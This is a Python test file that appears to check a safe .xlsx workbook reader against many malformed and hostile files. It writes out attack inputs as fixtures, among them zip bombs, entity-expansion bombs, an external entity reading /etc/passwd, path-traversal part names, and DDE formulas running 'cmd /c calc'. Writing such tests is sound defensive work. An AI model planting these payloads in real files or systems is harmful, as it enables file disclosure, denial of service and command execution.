"""Workbooks of strangers, by kind: what is refused to everybody, what to engines, what is left alone, what is fine."""

from __future__ import annotations

import stat
import struct
from collections.abc import Callable
from dataclasses import replace
from zlib import crc32

from tests.package.hostile import (
    BOOK,
    COMPATIBILITY,
    MAIN,
    RELATIONS,
    ROOT,
    SHEET,
    TYPES,
    Entry,
    archive,
    bare,
    book,
    cells,
    cells_of,
    changed,
    choice,
    defined,
    entry,
    fonts,
    formula,
    in_folder,
    inner,
    laughs,
    linked,
    lying,
    many,
    merge,
    merges,
    named,
    names,
    old,
    one_cell,
    overlapping,
    parts,
    reading,
    related,
    relation,
    saved,
    sheet,
    strict,
    svg,
    tables,
    twice,
    utf16,
)
from tests.package.repaired import REPAIRED

CELLS = b"<c><v>1</v></c>" * 4000
Made = Callable[[], "list[Entry] | bytes"]

REFUSED: dict[str, tuple[Made, str]] = {  # by every reader
    "a text": (lambda: b"name,amount\n", "but a text, such as CSV"),
    "a web page": (lambda: b"\xef\xbb\xbf <!DOCTYPE html><html>", "but a web page"),
    "an XML file": (lambda: b"<?xml version='1.0'?><Workbook/>", "but an XML file"),
    "a PDF": (lambda: b"%PDF-1.7\n", "but a PDF"),
    "a picture": (lambda: b"\x89PNG\r\n\x1a\n", "but a picture"),
    "noise": (lambda: bytes(range(256)) * 9, "not an .xlsx workbook;"),
    "empty": (lambda: b"", "it is empty"),
    "an old file": (lambda: old("Workbook"), "but an old .xls file"),
    "an encrypted file": (lambda: old("EncryptedPackage"), "locked by a password"),
    "half a file": (lambda: archive(book())[:3000], "cut off"),
    "something before it": (lambda: b"PK\3\4" + archive(book()), "before or behind"),
    "something behind it": (lambda: archive(book()) + b"x", "before or behind"),
    "no workbook": (lambda: bare("docProps/app.xml"), "not an .xlsx workbook;"),
    "a binary workbook": (lambda: bare("xl/workbook.bin"), "but a binary workbook"),
    "an OpenDocument file": (lambda: bare("content.xml"), "but an OpenDocument file"),
    "a Word document": (lambda: bare("word/document.xml"), "but a Word document"),
    "an encrypted part": (lambda: changed(SHEET, flags=1), "locked by a password"),
    "an unknown compression": (lambda: changed(SHEET, method=14), "zipped in a way"),
    "a wrong checksum": (lambda: changed(SHEET, crc=1), f"{SHEET} is damaged"),
    "broken XML": (lambda: book(sheet="<worksheet><sheetData>"), f"{SHEET} is damaged"),
    "an empty sheet": (lambda: book(sheet=""), f"{SHEET} is damaged"),
    "another part in the sheet's place": (lambda: book(sheet=parts()[BOOK]), f"{SHEET} is damaged .*begins no sheet"),
    "no zip data": (lambda: changed(SHEET, data=b"\xff" * 50), f"{SHEET} is damaged"),
    "60 parts of 9 MB": (lambda: book() + many(60, entry("", CELLS, 150)), "540 MB from .*, as a zip bomb does"),
    "a sheet of 100 MB": (lambda: book(sheet=entry(SHEET, CELLS, 1_700)), "102 MB from .*, as a zip bomb does"),
    "12,000 parts": (lambda: book() + many(12_000, Entry("", b"", 0, 0, 0)), "12,009 parts, more than"),
    "parts that overlap": (overlapping, "overlaps with"),
    "a size that isn't so": (lambda: list(lying()), "more than the 1,000 bytes"),
    "sizes that differ": (lambda: changed(SHEET, stored_size=7), "other sizes where it is stored"),
    "entities that multiply": (lambda: book(sheet=laughs(SHEET)), "declares a document type"),
    "entities in the workbook": (lambda: book(book=laughs(BOOK)), "declares a document type"),
    "an entity of a file": (lambda: book(sheet=reading("file:///etc/passwd")), "declares a document type"),
    "entities in a drawing": (lambda: book(**{"xl/d.vml": laughs(BOOK)}), "declares a document type"),
    "entities in UTF-16": (lambda: book(**{"x/y.xml": utf16(laughs(BOOK), "x/y.xml")}), "declares a document type"),
    "entities without a name": (lambda: book(**{"blob": " \n" + laughs(BOOK)}), "declares a document type"),
    "a declared encoding": (lambda: book(sheet='<?xml version="1.0" encoding="cp037"?><x/>'), "neither in UTF-8"),
    "a name that climbs": (lambda: book(**{"xl/../../../x.xml": "<x/>"}), "leads out of the file"),
    "a name from the root": (lambda: book(**{"/etc/x.xml": "<x/>"}), "leads out of the file"),
    "a name on a drive": (lambda: book(**{"C:/x.xml": "<x/>"}), "leads out of the file"),
    "a name with backslashes": (lambda: book(**{"xl\\..\\x.xml": "<x/>"}), "leads out of the file"),
    "a name that ends early": (lambda: book(**{"xl/a.xml\0.png": "<x/>"}), "leads out of the file"),
    "two names": (lambda: changed(SHEET, stored_name="xl/worksheets/sheetX.xml"), "another name where it is stored"),
    "a second name": (lambda: changed(SHEET, extra=struct.pack("<HH", 0x7075, 2) + b"ab"), "a second name beside"),
    "a name twice": (lambda: [*book(), entry(SHEET, "<x/>")], "two parts named"),
    "a name with both slashes": (lambda: [*book(), entry(SHEET.replace("/", "\\"), "<x/>")], "two parts named"),
    "a name in capitals": (lambda: [*book(), entry(SHEET.upper(), "<x/>")], "two parts named"),
    "a link to a file": (lambda: changed(SHEET, mode=stat.S_IFLNK | 0o777), "a link to another file"),
    "a device": (lambda: changed(SHEET, mode=stat.S_IFCHR), "is no file"),
    "a deep tree": (lambda: book(sheet="<a>" * 500_000), "begins no sheet"),
    "deep in a sheet": (lambda: book(sheet=sheet(behind="<a>" * 500_000)), "more than 100 levels"),
    "a huge tag": (lambda: book(sheet=sheet(behind=f'<a b="{"x" * 9_000_000}"/>')), "a tag of more than"),
    "a huge formula": (lambda: formula("1+" * 60_000 + "1"), "a formula of more than"),
    "a huge text": (lambda: cells('<c r="A9" t="str"><v>' + "x" * 9_000_000 + "</v></c>"), "a text of more than"),
    "a column beyond": (lambda: one_cell("XFE1", 9), "in column XFE, beyond"),
    "a row beyond": (lambda: one_cell("A1048577", 1048577), "a row 1048577, beyond"),
    "no place": (lambda: one_cell("AAAA1", 9), "a column 'AAAA', which no sheet has"),
    # what readers take differently
    "two workbooks": (
        lambda: book(
            **{
                ROOT: parts()[ROOT].replace(
                    "</Relationships>",
                    f'<Relationship Id="x" Type="{TYPES}/officeDocument" Target="xl/b.xml"/></Relationships>',
                ),
                "xl/b.xml": parts()[BOOK],
            }
        ),
        "holds two workbooks",
    ),
    "a workbook by its name": (lambda: [*named("b.xml", "b.xml"), entry(BOOK, parts()[BOOK])], "holds two workbooks"),
    "two lists of texts": (
        lambda: book(
            **{
                RELATIONS: related("sharedStrings", "texts.xml"),
                "xl/texts.xml": f'<sst xmlns="{MAIN}"/>',
                "xl/sharedStrings.xml": f'<sst xmlns="{MAIN}"/>',
            }
        ),
        "two parts of sharedStrings",
    ),
    "two sheets of styles": (
        lambda: book(**{RELATIONS: related("styles", "s.xml"), "xl/s.xml": parts()["xl/styles.xml"]}),
        "two parts of styles",
    ),
    "texts that aren't there": (
        lambda: book(**{RELATIONS: related("sharedStrings", "none.xml")}),
        "sharedStrings that aren't",
    ),
    "a sheet that isn't there": (
        lambda: [one for one in book() if one.name != SHEET],
        "part of the sheet 'Sheet' isn't",
    ),
    "a relation twice": (
        lambda: book(**{RELATIONS: related("styles", "styles.xml", "rId1")}),
        "two relations named rId1",
    ),
    "a row outside the data": (lambda: book(sheet=sheet(behind='<row r="9"><c r="A9"/></row>')), "holds <row> where"),
    "cells in an extension": (lambda: book(sheet=sheet(behind="<extLst><ext><c/></ext></extLst>")), "holds <c> where"),
    "two sets of cells": (lambda: book(sheet=sheet(behind="<sheetData/>")), "has two sets of cells"),
    "rows out of order": (lambda: book(sheet=sheet('<row r="9"/><row r="8"/>')), "has row 8 behind row 9"),
    "a row twice": (lambda: book(sheet=sheet('<row r="2"><c r="A2"/></row>')), "has row 2 behind row 2"),
    "cells out of order": (lambda: cells('<c r="B9"/><c r="A9"/>'), "row 9 that aren't in their order"),
    "a cell twice": (lambda: cells('<c r="B9"><v>1</v></c><c r="B9"><v>2</v></c>'), "aren't in their order"),
    "a cell of another row": (lambda: cells('<c r="B8"><v>1</v></c>'), "says it stands in another"),
    "a cell of two values": (lambda: cells('<c r="B9"><v>1</v><v>2</v></c>'), "two values"),
    "a cell of two formulas": (lambda: cells('<c r="B9"><f>1</f><f>2</f></c>'), "two formulas"),
    "a choice of rows": (lambda: book(sheet=sheet(choice('<row r="9"><c r="A9"><v>1</v></c></row>'))), "holds <Altern"),
    "a choice of values": (lambda: cells(f'<c r="A9"><v>1{choice("2")}</v></c>'), "holds <AlternateContent> where"),
    "a choice of merges": (lambda: book(sheet=sheet(behind=choice(merge("A1:B2")))), "holds <mergeCell"),
    "a choice of fonts": (
        lambda: book(**{"xl/styles.xml": fonts("http://schemas.microsoft.com/office/spreadsheetml/2009/9/main")}),
        "a choice of looks that readers take differently",
    ),
    "a choice of sheets": (
        lambda: book(book=parts()[BOOK].replace("<definedNames />", choice("<sheets/>"))),
        "holds <sheets> where",
    ),
    "another's cell": (lambda: cells('<c xmlns="urn:other" r="A9"><v>1</v></c>'), "readers take it differently"),
    "a tag within a value": (lambda: cells('<c r="A9"><v>1<x xmlns="urn:other">2</x></v></c>'), "take it differently"),
    "another standard's row": (
        lambda: cells_of('<row xmlns="http://purl.oclc.org/ooxml/spreadsheetml/main" r="9"/>'),
        "holds <row> of another standard",
    ),
    "an archive of nothing": (lambda: [], "not an .xlsx workbook;"),
    "a name by its percents": (lambda: [*book(), entry(SHEET.replace("1", "%31"), "<x/>")], "two parts named"),
    "a sheet's name twice": (lambda: twice("Sheet"), "two sheets named 'Sheet'"),
    "a sheet's name in capitals": (lambda: twice("SHEET"), "two sheets named 'SHEET'"),
    "a sheet without a name": (lambda: twice(""), "a sheet without a name"),
    "a name of no sheet": (lambda: names('"rate" localSheetId="9"'), "belongs to a sheet that isn't there"),
    "a name of a sheet below zero": (lambda: names('"rate" localSheetId="-1"'), "to a sheet that isn't there"),
    "two lists of sheets": (
        lambda: book(book=parts()[BOOK].replace("<sheets>", "<sheets/><sheets>")),
        "<sheets> twice",
    ),
    "two beginnings of time": (
        lambda: book(book=parts()[BOOK].replace("<sheets>", '<workbookPr date1904="1"/><sheets>')),
        "<workbookPr> twice",
    ),
    "two lists of merges": (lambda: book(sheet=sheet(behind=merge("A1:B2") * 2)), "<mergeCells> twice"),
    "a text in a number": (lambda: cells('<c r="A9"><is><t>a</t></is><v>4</v></c>'), "isn't where its kind says"),
    "a text in a calculated text": (lambda: cells('<c r="A9" t="str"><is><t>a</t></is></c>'), "isn't where its kind"),
    "a number in a text": (lambda: cells('<c r="A9" t="inlineStr"><v>5</v></c>'), "isn't where its kind says"),
    "two texts in a cell": (
        lambda: cells('<c r="A9" t="inlineStr"><is><t>a</t></is><is><t>b</t></is></c>'),
        "a cell of two values in row 9",
    ),
    "a style below zero": (lambda: cells('<c r="A9" s="-1"/>'), "a style '-1', which no workbook has"),
    "a style of other digits": (lambda: cells('<c r="A9" s="\u0661"/>'), "which no workbook has"),
    "a formula shared anew": (
        lambda: cells(
            '<c r="A9"><f t="shared" si="0" ref="A9">B1+1</f></c><c r="B9"><f t="shared" si="0" ref="B9">B1*9</f></c>'
        ),
        "isn't the one that it shares",
    ),
    "an array for other cells": (lambda: formula("B1:C1", ' t="array" ref="B9:C9"'), "for cells 'B9:C9', not for its"),
    "an array for no cells": (lambda: formula("B1:C1", ' t="array"'), "for cells '', not for its"),
    "a vast what-if table": (
        lambda: formula("", ' t="dataTable" ref="A9:XFD999" r1="B1"'),
        "what-if tables of more than 1,000,000",
    ),
    **REPAIRED,
    "what few understand, further in": (
        lambda: book(
            book=parts()[BOOK].replace(
                "<definedNames />",
                f'<definedNames xmlns:q="{COMPATIBILITY}" xmlns:x="urn:x" q:Ignorable="x" q:ProcessContent="x:a"/>',
            )
        ),
        "ProcessContent",
    ),
    "what few understand": (
        lambda: book(
            sheet=parts()[SHEET].replace(
                "<worksheet ", f'<worksheet xmlns:q="{COMPATIBILITY}" q:MustUnderstand="x" ', 1
            )
        ),
        "MustUnderstand",
    ),
}
NOT_COMPUTED: dict[str, tuple[Made, str]] = {  # by engines; whoever only reads does it
    "a name that is an address": (lambda: names('"B1"'), "a name 'B1', which some engines take for the address"),
    "a name that is an address elsewhere": (lambda: names('"R1C1"'), "a name 'R1C1', which some engines"),
    "a print area twice": (
        lambda: names('"_xlnm.Print_Area"', '"_xlnm.Print_Area"', cells=saved("SUM(Print_Area)")),
        "two names 'Print_Area', of which",
    ),
    "a defined name twice": (lambda: names('"rate"', '"Rate"'), "two names 'Rate', of which"),
    "a far cell": (
        lambda: one_cell("XFD1048576", 1048576),
        "cells out to column 16384 and row 1048576 on sheet 'Sheet'",
    ),
    "a huge array": (lambda: formula("B1", ' t="array" ref="A9:XFD99999"'), "arrays over more than 1,000,000 cells"),
    "a huge range": (lambda: formula("SUM($A:$XFD)"), r"a formula over \$A:\$XFD"),
    "a long formula": (lambda: formula("1+" * 5_000 + "1"), "a formula of 10,001 characters in Sheet!A9"),
    "a deep formula": (lambda: formula("(" * 65 + "1" + ")" * 65), "more than 64 levels in Sheet!A9"),
}
OUTSIDE: dict[str, tuple[Made, str, bool]] = {  # left alone: what is said of it, and whether A9 shows what was saved
    "a linked workbook": (
        lambda: linked("file:///tmp/rates.xlsx", cells=saved("[1]S!$A$1")),
        "file:///tmp/rates.xlsx",
        True,
    ),
    "a formula of another file": (
        lambda: cells_of(saved("'/tmp/[rates.xlsx]Sheet1'!A1")),
        "rates.xlsx.*on sheet 'Sheet'",
        True,
    ),
    "a formula by number": (lambda: cells_of(saved("1+[2]Sheet1!$A$1")), r"\[2\]Sheet1", True),
    "a formula by address": (lambda: cells_of(saved("'file:///tmp/rates.ods'#$Sheet1.A1")), "rates.ods", True),
    "a shared formula": (
        lambda: cells_of(
            '<row r="9"><c r="A9"><f t="shared" ref="A9:B9" si="0">[1]S!A1</f><v>7</v></c>'
            '<c r="B9"><f t="shared" si="0"/><v>8</v></c></row>'
        ),
        r"\[1\]S!A1 on sheet .Sheet., =\[1\]S!B1",
        True,
    ),
    "a name of another file": (
        lambda: linked("r.xlsx", cells=saved("1+n"), defined='<definedName name="n">[1]S!$A$1</definedName>'),
        r"\[1\]S",
        True,
    ),
    "a name by way of another": (
        lambda: linked(
            "r.xlsx",
            cells=saved("1+far"),
            defined='<definedName name="far">near*2</definedName><definedName name="near">[1]S!$A$1</definedName>',
        ),
        r"\[1\]S",
        True,
    ),
    "a format by a name": (
        lambda: defined("[1]S!A1", sheet=sheet(behind="<cfRule><formula>n&gt;1</formula></cfRule>")),
        r"=\[1\]S!A1, =n>1 on sheet 'Sheet'",
        False,
    ),
    "a DDE link": (
        lambda: linked("x", link='<ddeLink ddeService="cmd" ddeTopic="/c calc"/>'),
        "DDE: cmd /c calc",
        False,
    ),
    "a DDE formula": (lambda: cells_of(saved("cmd|'/c calc'!A0")), r"=cmd\|'/c calc'!A0", True),
    "a web service": (lambda: cells_of(saved('_xlfn.WEBSERVICE("http://x.test/?" &amp; A1)')), "WEBSERVICE", True),
    "a picture from the web": (lambda: cells_of(saved('_xlfn.IMAGE("http://x.test/a.png")')), "IMAGE", True),
    "a connection": (
        lambda: book(
            **{
                RELATIONS: related("connections", "c.xml"),
                "xl/c.xml": f'<connections xmlns="{MAIN}"><connection name="Prices"/></connections>',
            }
        ),
        "connection Prices",
        False,
    ),
    "a linked picture": (
        lambda: book(**{"xl/drawings/_rels/d.xml.rels": relation("image", "http://x.test/a.png")}),
        "http://x.test/a.png",
        False,
    ),
    "a hyperlink that no cell has": (
        lambda: book(**{"xl/worksheets/_rels/sheet1.xml.rels": relation("hyperlink", "http://x.test/")}),
        "http://x.test/ on sheet 'Sheet'",
        False,
    ),
    "a template from elsewhere": (
        lambda: book(**{"xl/worksheets/_rels/sheet1.xml.rels": relation("attachedTemplate", "\\\\x\\y")}),
        "x.y",
        False,
    ),
    "a drawing with a picture from elsewhere": (
        lambda: book(**{"xl/media/a.svg": svg('<image href="http://x.test/a.png"/>')}),
        "http://x.test/a.png in xl/media/a.svg",
        False,
    ),
    "a drawing with a style from elsewhere": (
        lambda: book(**{"xl/media/a.svg": svg("<style>@import 'http://x.test/a.css';</style>")}),
        "http://x.test/a.css",
        False,
    ),
    "an embedded object": (
        lambda: book(
            **{
                "xl/worksheets/_rels/sheet1.xml.rels": inner("oleObject", "../embeddings/o.bin"),
                "xl/embeddings/o.bin": "x",
            }
        ),
        "embedded objects: xl/embeddings/o.bin on sheet 'Sheet'",
        False,
    ),
    "an ActiveX control": (
        lambda: book(
            **{"xl/worksheets/_rels/sheet1.xml.rels": inner("control", "../activeX/a.xml"), "xl/activeX/a.xml": "<x/>"}
        ),
        "activeX/a.xml",
        False,
    ),
    "a query": (
        lambda: book(
            **{
                "xl/worksheets/_rels/sheet1.xml.rels": inner("queryTable", "../queryTables/q.xml"),
                "xl/queryTables/q.xml": "<x/>",
            }
        ),
        "queryTables/q.xml",
        False,
    ),
}
FINE: dict[str, Made] = {
    "a small workbook": book,
    "whole columns": lambda: formula("SUM($A:$Z)+SUM(1:9)"),
    "a range of two calls": lambda: formula("SUM(INDEX($A:$A,1):INDEX($A:$A,2))"),
    "texts": lambda: formula('"[1]S!A1|WEBSERVICE(http://x.test)"&amp;"A:XFD"'),
    "a sheet named A|B": lambda: formula("'A|B'!A1"),
    "a table": lambda: formula("SUM(T[[#This Row],[a]:[b]])*T[x]"),
    "the workbook's own name": lambda: formula("[0]!rate*2"),
    "a hyperlink": lambda: book(
        sheet=sheet(behind=f'<hyperlinks xmlns:r="{TYPES}"><hyperlink ref="A1" r:id="rId1"/></hyperlinks>'),
        **{"xl/worksheets/_rels/sheet1.xml.rels": relation("hyperlink", "http://x.test/")},
    ),
    "a drawing as Excel writes it": lambda: book(**{"xl/drawings/vmlDrawing1.vml": "<xml><br></xml>"}),
    "a merge over a column": lambda: book(sheet=sheet(behind=merge("F1:F1048576"))),
    "a huge merge": lambda: book(sheet=sheet(behind=merge("A1:ZZ100000"))),
    "a name of a whole sheet": lambda: defined("Sheet!$A$1:$XFD$1048576"),
    "formats everywhere": lambda: book(
        sheet=sheet(
            behind=(
                '<conditionalFormatting sqref="A1:XFD1048576"><cfRule type="expression" priority="1">'
                "<formula>A1&gt;1</formula></cfRule></conditionalFormatting>"
            )
        )
    ),
    "custom XML in UTF-16": lambda: book(**{"customXml/item1.xml": utf16("<x/>", "customXml/item1.xml")}),
    "all of it in UTF-16": lambda: book(sheet=utf16(parts()[SHEET], SHEET)),
    "names with backslashes": lambda: [replace(one, name=one.name.replace("/", "\\")) for one in book()],
    "names in other capitals": lambda: [replace(one, name=one.name.replace("sheet1", "Sheet1")) for one in book()],
    "another folder": lambda: in_folder("spreadsheet"),
    "another name": lambda: named("the book.xml", "the%20book.xml"),
    "sizes behind the data": lambda: [replace(one, flags=8, behind=True) for one in book()],
    "sizes as large files have them": lambda: [replace(one, wide=True) for one in book()],
    "a choice of another program's fonts": lambda: book(**{"xl/styles.xml": fonts("urn:office")}),
    "a module of macros in a sheet": lambda: book(
        book=parts()[BOOK].replace(
            "</sheets>", f'<sheet name="Module" sheetId="9" z:id="" xmlns:z="{TYPES}"/></sheets>'
        )
    ),
    "a damaged picture": lambda: [*book(), replace(entry("xl/media/a.png", "x" * 99), data=b"\xff" * 9)],
    "a drawing of its own": lambda: book(
        **{"xl/media/a.svg": svg('<a href="http://x.test/"><path fill="url(#g)"/><use href="#p"/></a>')}
    ),
    "a strict workbook": strict,
    "all of it in UTF-16BE": lambda: book(
        sheet=entry(SHEET, f'<?xml version="1.0" encoding="UTF-16BE"?>{parts()[SHEET]}'.encode("utf-16-be"))
    ),
    "its own name twice": lambda: changed(
        SHEET, extra=struct.pack("<HHBI", 0x7075, 5 + len(SHEET), 1, crc32(SHEET.encode())) + SHEET.encode()
    ),
    "formats out to the end": lambda: cells_of(
        '<row r="1048576"><c r="A1048576" s="0"/><c r="XFD1048576" s="0"/></row>'
    ),
    "a formula shared upwards": lambda: cells_of(
        '<row r="9"><c r="B9"><f t="shared" si="0" ref="A9:B10">B1</f></c></row>'
        '<row r="10"><c r="A10"><f t="shared" si="0"/></c></row>'
    ),
    "a dynamic array that is volatile": lambda: cells(
        '<c r="A9"><f t="array" aca="1" ref="A9:B9" ca="1">OFFSET(B1,0,0,1,2)</f></c><c r="B9"><f ca="1"/><v>4</v></c>'
    ),
    "merges side by side": lambda: book(sheet=sheet(behind=merges("A1:B2", "C1:C9", "A3:B3", "D1:XFD1048576"))),
    "a long text in a formula": lambda: cells(f'<c r="A9" t="str"><f>B1</f><v>{"x" * 40_000}</v></c>'),
    "a text as long as can be": lambda: cells(f'<c r="A9" t="inlineStr"><is><t>{"x" * 32_767}</t></is></c>'),
    "a sheet name as long as can be": lambda: twice("!" + "x" * 30),
    "tables side by side": lambda: tables(("T", "B1:C2", "ab"), ("U", "D1:E2", "ab")),
    "a choice of lists": lambda: book(
        sheet=sheet(
            behind='<dataValidations><dataValidation type="list" sqref="A1">'
            + choice('<formula1>"a,b"</formula1>')
            + "</dataValidation></dataValidations>"
        )
    ),
    "a choice of controls": lambda: book(sheet=sheet(behind=choice("<controls/>"))),
    "a shared formula with its text": lambda: cells(
        '<c r="A9"><f t="shared" si="0" ref="A9:B9">SUM(B1, 1)</f></c><c r="B9"><f t="shared" si="0">sum(C1,1)</f></c>'
    ),
    "two filters": lambda: names('"_xlnm._FilterDatabase"', '"_xlnm._FilterDatabase"'),
    "blanks in values": lambda: cells('<c r="A9"><v> 1 </v></c><c r="B9" t="s"><v>\n0 </v></c>'),
}
